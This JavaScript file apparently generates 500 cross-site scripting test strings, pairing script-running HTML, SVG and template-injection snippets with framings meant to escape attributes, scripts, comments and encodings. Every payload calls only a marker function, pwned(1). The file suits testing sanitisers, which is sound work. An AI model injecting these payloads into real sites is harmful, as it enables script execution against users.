// Texts that would run a script if a page took them for anything but text.

const CALL = 'pwned(1)';

const TAGS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `<body onload=${CALL}>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<object data="javascript:${CALL}"></object>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<base href="javascript:${CALL}//">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${CALL}>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
];

/** What stands around a payload where it might break out of markup, script, JSON or a query. */
const FRAMES = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></style></textarea></script>${text}`,
  (text) => `--> ${text} <!--`,
  (text) => `]]>${text}`,
  (text) => `";${CALL};//${text}`,
  (text) => `';${CALL};//${text}`,
  (text) => `\`;${CALL};//${text}`,
  (text) => `\\";${CALL};//${text}`,
  (text) => `javascript:${CALL}//${text}`,
  (text) => `data:text/html,${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => `\u0000${text}`,
  (text) => `${text}\u2028${CALL}`,
  (text) => `X ${text.toUpperCase().replaceAll('PWNED', 'pwned')}`,
  (text) => `\uff1c${text.replaceAll('<', '\uff1c<')}`,
  (text) => `&lt;${text.replaceAll('<', '&lt;<')}`,
  (text) => `x/${text.replaceAll(' ', '/')}`,
  (text) => `\n${text}\r\n`,
  (text) => `[${text}](javascript:${CALL})`,
  (text) => `__proto__ constructor ${text}`,
  (text) => `*" OR (${text}`,
  (text) => `%3Cscript%3E${CALL}%3C/script%3E${text}`,
  (text) => `\u001b]8;;javascript:${CALL}\u0007${text}\u001b]8;;\u0007`,
];

/** Every text in every frame: 500. */
export const PAYLOADS = FRAMES.flatMap((frame) => TAGS.map((tag) => frame(tag)));
